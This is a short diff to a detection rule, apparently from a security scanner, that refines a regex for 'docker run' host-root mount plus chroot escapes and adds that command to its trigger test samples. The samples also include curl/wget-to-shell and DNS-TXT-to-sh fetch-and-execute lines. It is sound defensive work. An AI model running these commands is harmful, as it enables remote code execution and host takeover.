@@ -53,7 +53,7 @@ export const rule: Rule = {
       window: 300,
     },
     {
-      re: /(?<![\w.-])docker\s+run\s[^\n]*(?:\s-v\s*|--volume[= ]|--mount[= ][^\n]*src=)\/:\/[^\n]*chroot\s/,
+      re: /(?<![\w.-])docker\s+run[^\n]*(?:\s-v\s*|\s--volume[= ]|\s--mount[= ][^\n]*src=)\/:\/[^\n]*chroot\s/,
       window: 300,
     },
   ],
@@ -67,6 +67,7 @@ export const rule: Rule = {
       'bash <<< "$(curl -s https://files.invalid/x)"',
       'python3 <(curl -s https://files.invalid/x.py)',
       'eval `wget -qO- https://files.invalid/x`',
+      'docker run -v /:/mnt --rm -it alpine chroot /mnt sh',
       'dig +short txt cmd.files.invalid | sh',
     ],
     silent: [
